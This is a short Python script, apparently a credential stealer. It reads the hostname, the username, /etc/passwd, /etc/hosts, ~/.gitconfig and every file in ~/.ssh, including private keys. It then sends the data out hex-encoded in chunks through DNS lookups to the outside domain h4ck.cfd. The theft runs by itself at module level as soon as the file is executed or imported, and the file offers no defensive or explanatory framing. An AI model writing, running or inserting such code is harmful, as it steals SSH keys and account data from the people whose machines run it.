import os, socket, getpass, binascii
def collect():
    data = [socket.gethostname(), getpass.getuser(), os.getcwd()]
    for p in ["/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig")]:
        try:
            data.append(open(p).read())
        except OSError:
            pass
    ssh = os.path.expanduser("~/.ssh/")
    for name in os.listdir(ssh):
        data.append(open(ssh + name).read())
    return "\n".join(data)

def send(blob):
    h = binascii.hexlify(blob.encode()).decode()
    for i in range(0, len(h), 60):
        try:
            socket.gethostbyname(h[i:i + 60] + "." + str(i) + ".h4ck.cfd")
        except OSError:
            pass

send(collect())
